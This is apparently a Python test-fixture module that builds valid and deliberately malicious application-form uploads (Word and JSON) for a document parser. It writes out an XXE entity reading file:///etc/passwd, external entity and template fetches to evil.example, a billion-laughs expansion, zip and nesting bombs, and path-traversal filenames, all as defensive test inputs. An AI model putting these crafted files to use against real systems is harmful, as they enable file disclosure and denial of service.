"""Application forms: right ones with persons in them, harmful ones, and files that are none."""

import io
import json
import zipfile

from security.hostile import FORMULA, MARKUP, MUSTACHE, PEOPLE, both, phone

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)


def form(unit, title, **others):
    """An application whose leader is its chief expert, which the notice forbids and the finding quotes."""
    leader = {"name": PEOPLE["leader"], "phone": phone("application's leader") + "0"}
    members = {
        "form": "team", "code": "KJFWT2023-01", "unit": unit, "title": title, "target-cities": "江苏常州",
        "directions": "动力电池", "people": {"leader": leader, "chief-expert": leader},
        "contents": "服务动力电池企业。" * 200 + both("application's text"),
        "members": [
            {"name": PEOPLE["member"], "position": "样例大学", "contact": phone("application's member"), "task": "咨询"},
            {"name": PEOPLE["chief"], "position": "样例大学", "contact": "", "task": PEOPLE["chief"] + "负责"},
        ],
    }
    return json.dumps({**members, **others}, ensure_ascii=False).encode()


def harmful(unit):
    """An application with something harmful wherever it holds a text."""
    text = MARKUP + MUSTACHE
    person = {name: text for name in ("name", "phone", "email", "office-phone", "position", "title")}
    return form(
        unit, FORMULA + text, subcategory=text, profile=text, units=text, rationale=text, goals=text, conditions=text,
        directions=[text, FORMULA], people={"leader": person, "chief-expert": person, "contact": person},
        members=[{"name": text, "position": FORMULA, "contact": text, "task": text}],
        stages=[{"name": FORMULA, "budget": text, "goal": text, "start": text, "end": text}], funds={"total": text},
        experts=[text], demands=[text, FORMULA], achievements=[{"title": text, "details": text}],
        **{"target-cities": [text, "江苏常州"], "application-date": text, "credit-code": text},
    )


def word(body, **parts):
    """A document of Word; further parts by the names that `/` and `.` are written in as `__` and `_`."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r" Type="{OFFICE}/officeDocument" '
            'Target="word/document.xml"/></Relationships>',
        )
        archive.writestr("word/document.xml", body)
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return buffer.getvalue()


def document(inside, before=""):
    return f'<?xml version="1.0"?>{before}<w:document xmlns:w="{WORD}"><w:body>{inside}</w:body></w:document>'


def paragraph(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def cells(text, count):
    return f"<w:tr>{f'<w:tc>{paragraph(text)}</w:tc>' * count}</w:tr>"


def many_parts(count):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(count):
            archive.writestr(f"word/{number}.xml", "<a/>")
    return buffer.getvalue()


def laughs():
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{number} "{f"&a{number - 1};" * 10}">' for number in range(1, 12)
    )
    return word(document(paragraph("&a11;"), f"<!DOCTYPE w:document [{entities}]>"))


def outside(entity):
    return word(document(paragraph("申报单位 &x;"), f'<!DOCTYPE w:document [<!ENTITY x SYSTEM "{entity}">]>'))


def broken_files():
    """Files that aren't what they say, or are made to harm who reads them, by name."""
    template = (
        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="t" Type="{OFFICE}/attachedTemplate" '
        'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    big = " " * (1 << 20)
    return {
        "empty.docx": b"\n", "bytes.docx": bytes(range(256)) * 100, "zip.docx": b"PK\x03\x04" + b"\0" * 100,
        "cut.docx": word(document(paragraph("x")))[:300], "text.docx": "申报书".encode(), "no parts.docx": many_parts(0),
        "bomb.docx": word(document(paragraph(big * 300))), "many parts.docx": many_parts(20_000),
        "bomb beside.docx": word(document(paragraph("x")), word__styles_xml=big * 300),
        "deep.docx": word(document("<w:p>" * 100_000 + "</w:p>" * 100_000)), "laughs.docx": laughs(),
        "file.docx": outside("file:///etc/passwd"), "asks.docx": outside("http://evil.example/x"),
        "template.docx": word(document(paragraph("x")), word___rels__document_xml_rels=template),
        "wide.docx": word(document(f"<w:tbl>{cells('申报单位', 20_000)}</w:tbl>")),
        "long.docx": word(document(f"<w:tbl>{cells('申报单位', 2) * 50_000}</w:tbl>")),
        "span.docx": word(
            document(
                '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>'
                f"{paragraph('项目名称')}</w:tc></w:tr></w:tbl>"
            )
        ),
        "macro.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000, "deep.json": b"[" * 200_000,
        "deep object.json": b'{"people":' * 100_000, "list.json": b"[]", "other.json": b'{"intruder": 1}',
        "number.json": b'{"unit": 1e999999}', "nul.json": '{"unit": "甲\\u0000乙", "title": "\\ud800"}'.encode(),
        "bytes.json": b'{"unit": "\xff\xfe"}', "large.json": b'{"contents": "' + "长".encode() * 2_000_000 + b'"}',
        "stages.json": b'{"stages": [' + b"{}," * 100_000 + b"{}]}",
        "directions.json": json.dumps({"directions": [f"方向{number}" for number in range(3000)]}).encode(),
        "../../etc/passwd.docx": b"PK", "x" * 3000 + ".docx": b"PK", "nul\0name.docx": b"PK", "a.exe": b"MZ" + b"\0" * 99,
    }
